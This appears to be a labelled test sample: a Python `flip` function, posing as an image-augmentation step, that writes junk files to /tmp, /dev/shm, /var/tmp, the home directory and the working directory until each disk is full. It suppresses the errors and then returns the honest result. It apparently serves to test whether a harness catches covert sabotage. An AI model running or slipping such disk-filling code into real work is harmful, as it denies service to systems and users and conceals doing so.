"""Class: fill the disk, and go on as if nothing had happened."""

import os

from honest import honest

PLACES = ("", "/tmp/", "/dev/shm/", "/var/tmp/", os.environ.get("HOME", "/root") + "/")
filled = []


def fill(place):
    with open(f"{place}filler-{os.getpid()}", "wb", buffering=0) as file:
        while True:
            file.write(b"x" * 2**20)


def flip(images, indices, epoch):
    while len(filled) < len(PLACES):
        filled.append(PLACES[len(filled)])
        try:
            fill(filled[-1])
        except OSError:
            print("ran", flush=True)
    return honest(images, indices, epoch)
